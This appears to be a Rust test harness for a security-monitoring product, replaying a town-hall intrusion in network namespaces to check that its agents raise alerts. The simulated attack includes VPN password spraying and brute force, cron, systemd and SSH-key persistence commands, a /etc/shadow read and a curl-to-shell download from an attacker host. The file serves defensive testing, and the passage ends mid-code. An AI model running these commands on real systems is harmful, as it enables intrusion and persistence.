//! The seed incident, end to end: a small public body in network
//! namespaces (VPN gateway, manager, file server, workstation, attacker
//! outside), real Vigie processes (manager, two enrolled agents), and the
//! attack it was born from, played step by step with measured delays.
//!
//! Real: the manager, the agents (eBPF sensor, detection, kill, nftables
//! isolation), RADIUS with `radclient`, TCP/HTTP traffic between the
//! namespaces, the commands the attacker runs. Simulated: the foothold (a
//! shell we start on the file server), the ransomware (`vigie-ransim` on a
//! test directory), and the persistence targets (tmpfs over /etc/cron.d,
//! /etc/systemd/system and root's .ssh in the foothold's private mount
//! namespace, so the real host never sees them).

pub mod api;
pub mod lab;
mod shell;

use std::collections::{HashMap, HashSet};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, OnceLock};
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use anyhow::{Context, Result, bail};
use serde_json::{Value, json};

use api::Api;
use lab::{ATTACKER, FILESERVER, Lab, MANAGER, Netns, Proc, log_file};
use shell::Shell;

/// Targets of issue 8.
const KILL_TARGET: Duration = Duration::from_secs(1);
const FILES_TARGET: usize = 50;
const ALERT_TARGET: Duration = Duration::from_secs(2);
/// The file server's share service, reached by the attacker and the workstation.
const SHARE_PORT: u16 = 4445;
const FS_HOST: &str = "srv-fichiers";
const WS_HOST: &str = "pc-accueil";

#[derive(Debug, Clone)]
pub struct Options {
    /// The `vigie` binary.
    pub vigie: PathBuf,
    /// The `vigie-ransim` binary.
    pub ransim: PathBuf,
    /// Files per second the simulator encrypts.
    pub rate: f64,
    /// Where to keep the logs (default: a temporary directory, deleted).
    pub logs: Option<PathBuf>,
    /// Have the file server's agent plant canary files in the share (its
    /// `[canaries] dirs`); without them only the behaviour detector can stop
    /// the simulator.
    pub canaries: bool,
}

static STOP: OnceLock<Arc<AtomicBool>> = OnceLock::new();

/// Ctrl-C and SIGTERM stop the scenario at its next wait, so that every
/// guard runs (namespaces and processes removed).
pub fn install_signal_handlers() -> Result<()> {
    let flag = STOP.get_or_init(|| Arc::new(AtomicBool::new(false)));
    for sig in [signal_hook::consts::SIGINT, signal_hook::consts::SIGTERM] {
        signal_hook::flag::register(sig, flag.clone())?;
    }
    Ok(())
}

fn interrupted() -> bool {
    STOP.get().is_some_and(|f| f.load(Ordering::Relaxed))
}

/// Sleeps, or fails when the scenario was interrupted.
fn pause(d: Duration) -> Result<()> {
    if interrupted() {
        bail!("interrupted");
    }
    std::thread::sleep(d);
    if interrupted() {
        bail!("interrupted");
    }
    Ok(())
}

fn now_ms() -> i64 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map_or(0, |d| d.as_millis() as i64)
}

/// At most `n` characters of `s` (long command lines in the process tree).
fn short(s: &str, n: usize) -> String {
    match s.char_indices().nth(n) {
        Some((i, _)) => format!("{}…", &s[..i]),
        None => s.to_string(),
    }
}

fn secs(d: Duration) -> String {
    format!("{:.2} s", d.as_secs_f64())
}

/// One line of the timeline table.
pub struct Row {
    pub step: String,
    pub measure: String,
    pub value: String,
    pub target: String,
    pub ok: Option<bool>,
}

/// What the run measured and checked.
#[derive(Default)]
pub struct Outcome {
    pub rows: Vec<Row>,
    pub checks: Vec<(String, bool)>,
    pub notes: Vec<String>,
}

impl Outcome {
    fn check(&mut self, what: &str, ok: bool, detail: impl std::fmt::Display) {
        if ok {
            println!("  ✓ {what}");
        } else {
            println!("  ✗ {what}: {detail}");
        }
        self.checks.push((what.to_string(), ok));
    }

    fn note(&mut self, text: impl Into<String>) {
        let text = text.into();
        println!("  ! {text}");
        self.notes.push(text);
    }

    fn row(&mut self, step: &str, measure: &str, value: String, target: &str, ok: Option<bool>) {
        self.rows.push(Row {
            step: step.into(),
            measure: measure.into(),
            value,
            target: target.into(),
            ok,
        });
    }

    /// An "action → alert" row from a measured delay (None: no alert).
    fn alert_row(&mut self, step: &str, measure: &str, delay: Option<Duration>) {
        let ok = delay.is_some_and(|d| d <= ALERT_TARGET);
        let value = delay.map_or("no alert".into(), secs);
        self.row(step, measure, value, "≤ 2 s", Some(ok));
    }

    pub fn passed(&self) -> bool {
        self.checks.iter().all(|(_, ok)| *ok) && self.rows.iter().all(|r| r.ok != Some(false))
    }

    pub fn print_table(&self) {
        let w = |f: fn(&Row) -> &str, h: &str| {
            self.rows
                .iter()
                .map(|r| f(r).chars().count())
                .chain([h.chars().count()])
                .max()
                .unwrap_or(0)
        };
        let (ws, wm, wv, wt) = (
            w(|r| &r.step, "Step"),
            w(|r| &r.measure, "Measure"),
            w(|r| &r.value, "Measured"),
            w(|r| &r.target, "Target"),
        );
        let pad = |s: &str, n: usize| format!("{s}{}", " ".repeat(n - s.chars().count()));
        println!(
            "| {} | {} | {} | {} | Result |",
            pad("Step", ws),
            pad("Measure", wm),
            pad("Measured", wv),
            pad("Target", wt)
        );
        println!(
            "|{}|{}|{}|{}|--------|",
            "-".repeat(ws + 2),
            "-".repeat(wm + 2),
            "-".repeat(wv + 2),
            "-".repeat(wt + 2)
        );
        for r in &self.rows {
            let res = match r.ok {
                Some(true) => "ok",
                Some(false) => "MISSED",
                None => "",
            };
            println!(
                "| {} | {} | {} | {} | {} |",
                pad(&r.step, ws),
                pad(&r.measure, wm),
                pad(&r.value, wv),
                pad(&r.target, wt),
                pad(res, 6)
            );
        }
        let failed: Vec<_> = self.checks.iter().filter(|(_, ok)| !ok).collect();
        println!(
            "\nChecks: {} passed, {} failed.",
            self.checks.len() - failed.len(),
            failed.len()
        );
        for (what, _) in failed {
            println!("  failed: {what}");
        }
        for n in &self.notes {
            println!("  note: {n}");
        }
    }
}

/// Runs `vigie ARGS` (in the root namespace: database and key files only)
/// with `stdin`, returns its standard output.
fn vigie(opts: &Options, args: &[&str], stdin: Option<&str>) -> Result<String> {
    let mut child = Command::new(&opts.vigie)
        .args(args)
        .stdin(if stdin.is_some() {
            Stdio::piped()
        } else {
            Stdio::null()
        })
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .with_context(|| format!("running {}", opts.vigie.display()))?;
    if let Some(s) = stdin {
        child
            .stdin
            .take()
            .context("stdin")?
            .write_all(format!("{s}\n").as_bytes())?;
    }
    let out = child.wait_with_output()?;
    if !out.status.success() {
        bail!(
            "vigie {}: {}",
            args.first().copied().unwrap_or_default(),
            String::from_utf8_lossy(&out.stderr).trim()
        );
    }
    Ok(String::from_utf8_lossy(&out.stdout).into_owned())
}

fn last_line(s: &str) -> String {
    s.lines().last().unwrap_or_default().trim().to_string()
}

/// Writes a secret file. Only ever called for files in the run's temporary
/// directory, which tempfile creates with mode 0700: nobody else can read it.
fn write_secret(path: &Path, content: &str) -> Result<()> {
    std::fs::write(path, content).with_context(|| format!("writing {}", path.display()))
}

/// A random printable secret from the kernel's generator.
fn random_secret() -> Result<String> {
    let mut buf = [0u8; 24];
    std::io::Read::read_exact(&mut std::fs::File::open("/dev/urandom")?, &mut buf)?;
    Ok(hex::encode(buf))
}

/// The VPN's RADIUS side: accounts, the gateway's shared secret, how to ask.
struct Vpn {
    secret_file: PathBuf,
    passwords: HashMap<&'static str, String>,
    totp: HashMap<&'static str, String>,
}

const SPRAYED: [&str; 5] = ["accueil", "compta", "urbanisme", "etat-civil", "dgs"];
const BRUTE_FORCED: &str = "maire";

fn setup_vpn(opts: &Options, data: &Path, dir: &Path) -> Result<Vpn> {
    std::fs::create_dir_all(data)?;
    let d = data.to_str().context("data path")?;
    let secret_file = dir.join("vpn-gw.secret");
    write_secret(&secret_file, &random_secret()?)?;
    vigie(
        opts,
        &[
            "mfa",
            "client",
            "add",
            "vpn-gw",
            "--address",
            &format!("{}/32", lab::GW_LAN),
            "--secret-file",
            secret_file.to_str().context("path")?,
            "--data",
            d,
        ],
        None,
    )?;
    let mut passwords = HashMap::new();
    let mut totp = HashMap::new();
    for user in SPRAYED.iter().chain([&BRUTE_FORCED]) {
        let pw = format!("{}-{}", user, &random_secret()?[..12]);
        vigie(
            opts,
            &["mfa", "user", "add", user, "--password-stdin", "--data", d],
            Some(&pw),
        )?;
        passwords.insert(*user, pw);
    }
    for user in ["dgs", BRUTE_FORCED] {
        let out = vigie(opts, &["mfa", "enroll", user, "--no-qr", "--data", d], None)?;
        let secret = out
            .split(['?', '&', '\n'])
            .find_map(|p| p.trim().strip_prefix("secret="))
            .context("no secret= in the enrolment URI")?
            .to_string();
        totp.insert(user, secret);
    }
    Ok(Vpn {
        secret_file,
        passwords,
        totp,
    })
}

impl Vpn {
    /// One Access-Request through the real radclient, from the gateway.
    fn login(&self, gw: &Netns, user: &str, password: &str, from: &str) -> Result<String> {
        let mut child = gw
            .command("radclient")
            .args(["-x", "-t", "2", "-r", "3", "-S"])
            .arg(&self.secret_file)
            .args([&format!("{MANAGER}:1812"), "auth"])
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .context("radclient (freeradius-utils) must be installed")?;
        let attrs = format!(
            "User-Name = \"{user}\", User-Password = \"{password}\", Calling-Station-Id = \"{from}\", \
             NAS-IP-Address = {}, Message-Authenticator = 0x00\n",
            lab::GW_LAN
        );
        child
            .stdin
            .take()
            .context("stdin")?
            .write_all(attrs.as_bytes())?;
        let out = child.wait_with_output()?;
        Ok(format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ))
    }

    /// The attacker's `tries` (user, password) from outside, all at once as
    /// spraying and brute-force tools send them, while the API is watched
    /// for the alert named `title`: the answers, in the order of `tries`,
    /// and the time from the first attempt to the alert. Watched during the
    /// attack, not after it: the alert comes from the failures, which the
    /// server reports at once, while each reject waits out the reject delay.
    fn attack(
        &self,
        gw: &Netns,
        api: &Api,
        tries: &[(&str, String)],
        title: &str,
    ) -> Result<(Vec<String>, Option<Duration>)> {
        let t0 = Instant::now();
        std::thread::scope(|s| {
            let running: Vec<_> = tries
                .iter()
                .map(|(user, password)| s.spawn(move || self.login(gw, user, password, ATTACKER)))
                .collect();
            let alert = self.wait_alert(api, title, t0);
            let outs = running
                .into_iter()
                .map(|t| {
                    t.join()
                        .unwrap_or_else(|_| Err(anyhow::anyhow!("radclient thread panicked")))
                })
                .collect::<Result<Vec<_>>>()?;
            Ok((outs, alert?))
        })
    }

    fn code(&self, user: &str) -> Result<String> {
        let out = Command::new("oathtool")
            .args(["--totp", "-b"])
            .arg(&self.totp[user])
            .output()
            .context("oathtool must be installed")?;
        Ok(String::from_utf8_lossy(&out.stdout).trim().to_string())
    }

    /// Waits for an alert of the manager's RADIUS service (on the host
    /// "<manager> VPN (RADIUS)") whose rule name contains `title`.
    fn wait_alert(&self, api: &Api, title: &str, t0: Instant) -> Result<Option<Duration>> {
        let deadline = Instant::now() + Duration::from_secs(15);
        while Instant::now() < deadline {
            if api
                .alerts(None)?
                .iter()
                .any(|a| a["rule_name"].as_str().is_some_and(|t| t.contains(title)))
            {
                return Ok(Some(t0.elapsed()));
            }
            pause(Duration::from_millis(50))?;
        }
        Ok(None)
    }
}

fn rejected(out: &str) -> bool {
    out.contains("Access-Reject")
}

/// Waits for a new alert on `host` whose rule name contains `title` (or,
/// with `title` empty, of level `critical`), polling every 50 ms.
fn wait_alert(
    api: &Api,
    host: &str,
    title: &str,
    seen: &HashSet<String>,
    t0: Instant,
    timeout: Duration,
) -> Result<Option<(Value, Duration)>> {
    let deadline = t0 + timeout;
    loop {
        for a in api.alerts(Some(host))? {
            let id = a["id"].as_str().unwrap_or_default();
            let name = a["rule_name"].as_str().unwrap_or_default();
            let hit = if title.is_empty() {
                a["level"] == "critical"
            } else {
                name.contains(title)
            };
            if hit && !seen.contains(id) {
                return Ok(Some((a, t0.elapsed())));
            }
        }
        if Instant::now() > deadline {
            return Ok(None);
        }
        pause(Duration::from_millis(50))?;
    }
}

/// True when the audit log has an entry whose action contains `action`
/// about `target`.
fn audit_has(api: &Api, action: &str, target: &str) -> Result<bool> {
    Ok(api.get("/api/v1/audit")?["audit"]
        .as_array()
        .is_some_and(|entries| {
            entries.iter().any(|e| {
                e["action"].as_str().is_some_and(|a| a.contains(action)) && e["target"] == target
            })
        }))
}

fn alert_ids(api: &Api) -> Result<HashSet<String>> {
    Ok(api
        .alerts(None)?
        .iter()
        .filter_map(|a| a["id"].as_str().map(String::from))
        .collect())
}

/// Starts an agent in `ns` named `hostname`, enrolled with a fresh token;
/// waits until its probes are attached.
fn start_agent(
    opts: &Options,
    ns: &Netns,
    hostname: &str,
    dir: &Path,
    logs: &Path,
    manager_data: &Path,
    extra_config: &str,
) -> Result<Proc> {
    let state = dir.join(format!("agent-{hostname}"));
    std::fs::create_dir_all(&state)?;
    let config = dir.join(format!("agent-{hostname}.toml"));
    std::fs::write(
        &config,
        format!(
            "[output]\nalerts = \"\"\nactions = \"\"\nevents = \"\"\n{extra_config}\n\
             [response.isolation]\nprobes = [\"{ATTACKER}:8000\"]\n"
        ),
    )?;
    let out = vigie(
        opts,
        &[
            "manager",
            "token",
            "create",
            "--expires",
            "10m",
            "--data",
            manager_data.to_str().context("path")?,
        ],
        None,
    )?;
    let mut cmd = ns.command_host(&opts.vigie, Some(hostname));
    cmd.arg("agent")
        .arg("--config")
        .arg(&config)
        .arg("--state-dir")
        .arg(&state)
        .args(["--manager", &format!("https://{MANAGER}:8444")])
        // The token goes through the environment, not the command line.
        .env("VIGIE_ENROLL_TOKEN", last_line(&out))
        .stdout(log_file(logs, &format!("agent-{hostname}.out"))?)
        .stderr(log_file(logs, &format!("agent-{hostname}.log"))?);
    let mut agent = Proc::spawn(&format!("agent {hostname}"), cmd)?;
    let t0 = Instant::now();
    while !state.join("agent.ready").exists() {
        if !agent.alive() {
            bail!(
                "the agent of {hostname} exited; see {}",
                logs.join(format!("agent-{hostname}.log")).display()
            );
        }
        if t0.elapsed() > Duration::from_secs(120) {
            bail!("the agent of {hostname} was not ready in 120 s");
        }
        pause(Duration::from_millis(100))?;
    }
    Ok(agent)
}

/// The benign workloads of issue 8, as one shell script run in `dir`.
const BENIGN: &str = r#"set -e
cd "$1"
cat > hello.c <<'EOF'
#include <stdio.h>
int main(void) { puts("bonjour"); return 0; }
EOF
gcc -O2 -Wall -o hello hello.c
./hello >/dev/null
tar czf docs.tar.gz docs
mkdir -p restore && tar xzf docs.tar.gz -C restore
zip -qr docs.zip docs
unzip -qo docs.zip -d unzipped
rsync -a docs/ backup/
echo "ligne ajoutee" >> docs/service-00/dossier-000.txt
rsync -a --delete docs/ backup/
mkdir -p logs
i=0; while [ $i -lt 500 ]; do echo "requete $i traitee" >> logs/app.log; i=$((i+1)); done
printf '%s/logs/*.log {\n  rotate 3\n  compress\n  missingok\n}\n' "$PWD" > logrotate.conf
logrotate -s logrotate.state -f logrotate.conf
mkdir -p pkg/DEBIAN pkg/usr/share/doc/vigie-demo root/var/lib/dpkg/info root/var/lib/dpkg/updates
: > root/var/lib/dpkg/status
printf 'Package: vigie-demo\nVersion: 1.0\nArchitecture: all\nMaintainer: Vigie <vigie@example.org>\nDescription: scenario package\n' > pkg/DEBIAN/control
echo bonjour > pkg/usr/share/doc/vigie-demo/README
dpkg-deb --build --root-owner-group pkg vigie-demo.deb >/dev/null
dpkg --root="$PWD/root" --force-script-chrootless --force-not-root --force-bad-path -i vigie-demo.deb >/dev/null
"#;

fn run_benign(ns: &Netns, dir: &Path, logs: &Path, name: &str) -> Result<()> {
    std::fs::create_dir_all(dir)?;
    crate::share::populate(&dir.join("docs"), 5, 20)?;
    std::fs::remove_file(dir.join("docs").join(crate::ransim::MARKER))?;
    let script = dir.join("benign.sh");
    std::fs::write(&script, BENIGN)?;
    let st = ns
        .command("/bin/sh")
        .arg(&script)
        .arg(dir)
        .stdout(log_file(logs, &format!("benign-{name}.out"))?)
        .stderr(log_file(logs, &format!("benign-{name}.err"))?)
        .status()?;
    if !st.success() {
        bail!(
            "the benign workloads failed on {name}; see {}",
            logs.join(format!("benign-{name}.err")).display()
        );
    }
    Ok(())
}

/// Runs the whole scenario; Ok(outcome) even when targets are missed.
pub fn run(opts: &Options) -> Result<Outcome> {
    let mut o = Outcome::default();
    let tmp = tempfile::Builder::new().prefix("vigie-seed-").tempdir()?;
    let dir = tmp.path().to_path_buf();
    let logs = opts.logs.clone().unwrap_or_else(|| dir.join("logs"));
    std::fs::create_dir_all(&logs)?;
    let result = play(opts, &dir, &logs, &mut o);
    if let Err(e) = &result {
        println!("\nThe scenario stopped: {e:#}");
        for f in [
            "manager.log",
            "agent-srv-fichiers.log",
            "agent-pc-accueil.log",
        ] {
            let text = std::fs::read_to_string(logs.join(f)).unwrap_or_default();
            let tail: Vec<_> = text.lines().rev().take(15).collect();
            if !tail.is_empty() {
                println!("--- last lines of {f}:");
                for l in tail.iter().rev() {
                    println!("    {l}");
                }
            }
        }
        o.checks
            .push((format!("the scenario ran to the end ({e:#})"), false));
    }
    Ok(o)
}

fn play(opts: &Options, dir: &Path, logs: &Path, o: &mut Outcome) -> Result<()> {
    let help = Command::new(&opts.vigie)
        .args(["manager", "--help"])
        .output()
        .with_context(|| format!("running {}", opts.vigie.display()))?;
    let defaults = Command::new(&opts.vigie)
        .args(["agent", "--print-default-config"])
        .output()?;
    // The scenario needs the manager's RADIUS service and the agents'
    // namespace scope: an older binary cannot play it.
    if !String::from_utf8_lossy(&help.stdout).contains("--radius-listen")
        || !String::from_utf8_lossy(&defaults.stdout).contains("\"netns\"")
    {
        bail!(
            "{} has no `manager --radius-listen` or no agent `[sensor] scope = \"netns\"`: rebuild it (cargo build -p vigie)",
            opts.vigie.display()
        );
    }

    println!("==> The town hall's network (network namespaces, removed at the end)");
    let lab = Lab::new()?;
    println!("  namespaces: {}", lab.names().join(" "));
    println!(
        "  LAN 10.20.0.0/24: VPN gateway {}, manager {MANAGER}, file server {FILESERVER}, workstation {}; attacker {ATTACKER} outside",
        lab::GW_LAN,
        lab::WORKSTATION
    );
    // Declared after `lab`: dropped (stopped) before the namespaces go.
    let mut procs: Vec<Proc> = Vec::new();

    // The manager, and its RADIUS service (or `vigie radius` beside it).
    let mdata = dir.join("manager");
    std::fs::create_dir_all(&mdata)?;
    // NAS client and VPN accounts in the manager's data folder, before it
    // starts (its RADIUS service reads them there).
    let vpn = setup_vpn(opts, &mdata, dir)?;
    let mut cmd = lab.manager.command(&opts.vigie);
    cmd.arg("manager")
        .arg("--data")
        .arg(&mdata)
        .args(["--listen", &format!("{MANAGER}:8443")])
        .args(["--agent-listen", &format!("{MANAGER}:8444")])
        .args(["--name", MANAGER])
        // The admin's one-time password is not needed: the admin uses an
        // API token below.
        .stdout(Stdio::null())
        .stderr(log_file(logs, "manager.log")?);
    cmd.args(["--radius-listen", &format!("{MANAGER}:1812")]);
    procs.push(Proc::spawn("manager", cmd)?);
    let ca = mdata.join("pki").join("ca.pem");
    let t0 = Instant::now();
    while !ca.exists() {
        if !procs[0].alive() || t0.elapsed() > Duration::from_secs(60) {
            bail!(
                "the manager did not start; see {}",
                logs.join("manager.log").display()
            );
        }
        pause(Duration::from_millis(100))?;
    }
    let token = last_line(&vigie(
        opts,
        &[
            "manager",
            "api-token",
            "create",
            "--name",
            "seed-incident-admin",
            "--role",
            "admin",
            "--data",
            mdata.to_str().context("path")?,
        ],
        None,
    )?);
    let auth_header = dir.join("api-auth.header");
    write_secret(&auth_header, &format!("Authorization: Bearer {token}\n"))?;
    let api = Api {
        ns: lab.manager.clone(),
        base: format!("https://{MANAGER}:8443"),
        ca,
        auth_header,
    };
    let t0 = Instant::now();
    while api.get("/api/v1/hosts").is_err() {
        if t0.elapsed() > Duration::from_secs(60) {
            bail!("the manager's API did not answer in 60 s");
        }
        pause(Duration::from_millis(200))?;
    }
    println!("  manager up: https://{MANAGER}:8443 (API, admin token), agents on :8444");

    // The two agents.
    let share = dir.join("partage");
    std::fs::create_dir_all(&share)?;
    let files = crate::share::populate(&share, 10, 20)?;
    let canary_dirs: Vec<String> = std::iter::once(share.clone())
        .chain((0..10).map(|d| share.join(format!("service-{d:02}"))))
        .map(|p| format!("{:?}", p.display().to_string()))
        .collect();
    // Each agent watches only its own host (namespace): both share this kernel.
    let scope = "[sensor]\nscope = \"netns\"\n";
    let fs_conf = if opts.canaries {
        format!("[canaries]\ndirs = [{}]\n{scope}", canary_dirs.join(", "))
    } else {
        o.note("no canary files in the share (--no-canaries): the behaviour detector alone must stop the simulator");
        scope.to_string()
    };
    procs.push(start_agent(
        opts,
        &lab.fileserver,
        FS_HOST,
        dir,
        logs,
        &mdata,
        &fs_conf,
    )?);
    procs.push(start_agent(
        opts,
        &lab.workstation,
        WS_HOST,
        dir,
        logs,
        &mdata,
        scope,
    )?);
    let mut ids: HashMap<String, String> = HashMap::new();
    let t0 = Instant::now();
    while ids.len() < 2 {
        for h in api.get("/api/v1/hosts")?["hosts"]
            .as_array()
            .cloned()
            .unwrap_or_default()
        {
            if h["online"] == json!(true) {
                ids.insert(
                    h["hostname"].as_str().unwrap_or_default().to_string(),
                    h["id"].as_str().unwrap_or_default().to_string(),
                );
            }
        }
        if t0.elapsed() > Duration::from_secs(60) {
            bail!("the agents are not both online in the manager after 60 s: {ids:?}");
        }
        pause(Duration::from_millis(200))?;
    }
    let (Some(fs_id), Some(ws_id)) = (ids.get(FS_HOST).cloned(), ids.get(WS_HOST).cloned()) else {
        bail!("hosts online: {ids:?}; expected {FS_HOST} and {WS_HOST}");
    };
    println!("  agents enrolled and online: {FS_HOST} ({fs_id}), {WS_HOST} ({ws_id})");

    // Ordinary work first: it must raise nothing.
    println!("\n==> Ordinary work on both hosts (compile, tar, zip, rsync, logrotate, dpkg)");
    let benign_start = now_ms();
    let t_benign = Instant::now();
    run_benign(&lab.fileserver, &dir.join("work-fs"), logs, FS_HOST)?;
    run_benign(&lab.workstation, &dir.join("work-ws"), logs, WS_HOST)?;
    println!(
        "  done in {}; waiting 5 s for late alerts",
        secs(t_benign.elapsed())
    );
    pause(Duration::from_secs(5))?;
    let mut fp = Vec::new();
    let mut informational = 0;
    for id in [&fs_id, &ws_id] {
        for a in api.alerts(Some(id))? {
            if a["time"].as_i64().unwrap_or(0) < benign_start - 1000 {
                continue;
            }
            if a["level"] == "informational" {
                informational += 1;
            } else {
                // What fired, to tell a workload from the machine's other activity.
                let doc = api.get(&format!(
                    "/api/v1/alerts/{}",
                    a["id"].as_str().unwrap_or_default()
                ))?;
                let ev = &doc["document"]["vigie"]["events"][0];
                fp.push(format!(
                    "{} on {} ({} {})",
                    a["rule_name"].as_str().unwrap_or("?"),
                    if id == &fs_id { FS_HOST } else { WS_HOST },
                    ev["process"]["executable"].as_str().unwrap_or("?"),
                    short(ev["file"]["path"].as_str().unwrap_or_default(), 80),
                ));
            }
        }
    }
    o.check(
        "no alert from the ordinary workloads",
        fp.is_empty(),
        format!("{fp:?}"),
    );
    if informational > 0 {
        o.note(format!(
            "{informational} informational alert(s) during the ordinary work (not counted as false positives)"
        ));
    }
    o.row(
        "0 ordinary work",
        "false-positive alerts (low and above)",
        fp.len().to_string(),
        "0",
        Some(fp.is_empty()),
    );

    // Step 1: the VPN.
    println!(
        "\n==> Step 1: password spraying, then brute force, against the VPN (radclient from the gateway)"
    );
    let tries: Vec<(&str, String)> = SPRAYED
        .iter()
        .map(|u| (*u, "Printemps2026!".to_string()))
        .collect();
    let (outs, spray) = vpn.attack(&lab.gateway, &api, &tries, "VPN password spraying")?;
    let mut all_rejected = true;
    for (u, out) in SPRAYED.iter().zip(outs) {
        println!(
            "  {ATTACKER} tries {u} / Printemps2026! → {}",
            if rejected(&out) { "Access-Reject" } else { "?" }
        );
        all_rejected &= rejected(&out);
    }
    o.check(
        "spraying refused and raised \"VPN password spraying\"",
        all_rejected && spray.is_some(),
        format!("all rejected: {all_rejected}, alert: {spray:?}"),
    );
    o.alert_row("1 VPN", "first spraying attempt → alert in the API", spray);
    let tries: Vec<(&str, String)> = (0..10)
        .map(|i| (BRUTE_FORCED, format!("Mairie{i:02}!")))
        .collect();
    let (outs, brute) = vpn.attack(&lab.gateway, &api, &tries, "VPN brute force")?;
    let all_rejected = outs.iter().all(|out| rejected(out));
    println!("  {ATTACKER} tries 10 passwords on {BRUTE_FORCED} → all refused: {all_rejected}");
    o.check(
        "brute force refused and raised \"VPN brute force on one account\"",
        all_rejected && brute.is_some(),
        format!("all rejected: {all_rejected}, alert: {brute:?}"),
    );
    o.alert_row(
        "1 VPN",
        "first brute-force attempt → alert in the API",
        brute,
    );
    // The real mayor, from home, with the right password and code: locked.
    let right = format!("{}{}", vpn.passwords[BRUTE_FORCED], vpn.code(BRUTE_FORCED)?);
    let out = vpn.login(&lab.gateway, BRUTE_FORCED, &right, "203.0.113.20")?;
    o.check(
        "the brute-forced account is locked (even the right password and code are refused)",
        rejected(&out),
        out.lines().last().unwrap_or_default(),
    );
    // The manager audits each lockout as `vpn.lockout` on the account.
    let locked = audit_has(&api, "vpn.lockout", BRUTE_FORCED)?;
    o.check("the lockout is in the audit log", locked, "no lock found");
    // A password stolen elsewhere, without the phone's code.
    let out = vpn.login(&lab.gateway, "dgs", &vpn.passwords["dgs"], ATTACKER)?;
    o.check(
        "a stolen password without the code is refused",
        rejected(&out),
        out.lines().last().unwrap_or_default(),
    );

    // Step 2: the foothold on the file server.
    println!("\n==> Step 2: the attacker has a shell on {FS_HOST} anyway (simulated foothold)");
    let www = dir.join("www");
    std::fs::create_dir_all(&www)?;
    std::fs::write(
        www.join("maj.sh"),
        "echo \"stage 2 running as $(id -un) on $(cat /proc/sys/kernel/hostname)\"\n",
    )?;
    let mut http = lab.attacker.command("python3");
    http.args([
        "-m",
        "http.server",
        "8000",
        "--bind",
        ATTACKER,
        "--directory",
    ])
    .arg(&www)
    .stdout(log_file(logs, "attacker-http.log")?)
    .stderr(log_file(logs, "attacker-http.err")?);
    procs.push(Proc::spawn("attacker's HTTP server", http)?);
    let t0 = Instant::now();
    while lab
        .attacker
        .connect(&format!("{ATTACKER}:8000"), Duration::from_secs(1))
        .is_err()
    {
        if t0.elapsed() > Duration::from_secs(20) {
            bail!("the attacker's HTTP server did not start");
        }
        pause(Duration::from_millis(100))?;
    }
    let mut sh = Shell::start(&lab.fileserver, logs)?;
    sh.private_persistence_dirs()?;
    let fs_alert = |title: &str, t0: Instant, seen: &HashSet<String>| {
        wait_alert(&api, &fs_id, title, seen, t0, Duration::from_secs(10))
    };

    let seen = alert_ids(&api)?;
    let t0 = Instant::now();
    for c in [
        "whoami",
        "id",
        "uname -a",
        "hostname",
        "ip -brief address",
        "ps -e",
        "w",
    ] {
        sh.run(c, Duration::from_secs(10))?;
    }
    let hit = fs_alert("Discovery Burst", t0, &seen)?;
    o.check(
        "discovery raised \"Discovery Burst\"",
        hit.is_some(),
        "no alert",
    );
    o.alert_row(
        "2 foothold",
        "first discovery command → alert",
        hit.map(|h| h.1),
    );

    let persistence: [(&str, &str, &str, &str); 3] = [
        (
            "/etc/cron.d",
            "printf '%s\\n' '*/5 * * * * root /usr/local/bin/maj-systeme' > /etc/cron.d/maj-systeme",
            "Cron Job Created",
            "cron entry written → alert",
        ),
        (
            "/etc/systemd/system",
            "printf '[Unit]\\nDescription=Mise a jour\\n[Service]\\nExecStart=/usr/local/bin/maj-systeme\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/maj-systeme.service",
            "Systemd Service or Timer Unit Written",
            "systemd unit written → alert",
        ),
        (
            "/root",
            "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHZpZ2llLXNlZWQtaW5jaWRlbnQtYXR0YWNrZXI attaquant' >> /root/.ssh/authorized_keys",
            "SSH authorized_keys Written",
            "SSH key added → alert",
        ),
    ];
    for (needed, cmd, title, measure) in persistence {
        if !sh.private.iter().any(|p| p.starts_with(needed)) {
            o.note(format!(
                "{needed} does not exist on this machine: step \"{measure}\" skipped"
            ));
            continue;
        }
        let seen = alert_ids(&api)?;
        let t0 = Instant::now();
        let (_, rc) = sh.run(cmd, Duration::from_secs(10))?;
        let hit = fs_alert(title, t0, &seen)?;
        o.check(
            &format!("persistence raised \"{title}\""),
            rc == 0 && hit.is_some(),
            format!("exit {rc}, alert: {}", hit.is_some()),
        );
        o.alert_row("2 foothold", measure, hit.map(|h| h.1));
    }

    let seen = alert_ids(&api)?;
    let t0 = Instant::now();
    sh.run("cat /etc/shadow > /dev/null", Duration::from_secs(10))?;
    let hit = fs_alert("/etc/shadow", t0, &seen)?;
    o.check(
        "credential access raised \"/etc/shadow Read by a Non-System Tool\"",
        hit.is_some(),
        "no alert",
    );
    o.alert_row("2 foothold", "/etc/shadow read → alert", hit.map(|h| h.1));

    let seen = alert_ids(&api)?;
    let t0 = Instant::now();
    let (out, rc) = sh.run(
        &format!("sh -c 'curl -fsS http://{ATTACKER}:8000/maj.sh | sh'"),
        Duration::from_secs(20),
    )?;
    println!("  {}", out.trim());
    let hit = fs_alert("Download Piped", t0, &seen)?;
    o.check(
        "download-and-execute ran and raised \"Download Piped Straight Into a Shell\"",
        rc == 0 && hit.is_some(),
        format!("exit {rc}, alert: {}", hit.is_some()),
    );
    o.alert_row(
        "2 foothold",
        "download piped to a shell → alert",
        hit.as_ref().map(|h| h.1),
    );
    if let Some((a, _)) = hit {
        let detail = api.get(&format!(
            "/api/v1/alerts/{}",
            a["id"].as_str().unwrap_or_default()
        ))?;
        let tree = detail["process_tree"]
            .as_array()
            .cloned()
            .unwrap_or_default();
        println!("  process tree of the alert:");
        for (i, p) in tree.iter().enumerate() {
            println!(
                "    {}{} [{}] {}",
                "  ".repeat(i),
                p["name"].as_str().unwrap_or("?"),
                p["pid"],
                short(p["command_line"].as_str().unwrap_or_default(), 100)
            );
        }
        let shell_pid = sh.pid() as u64;
        o.check(
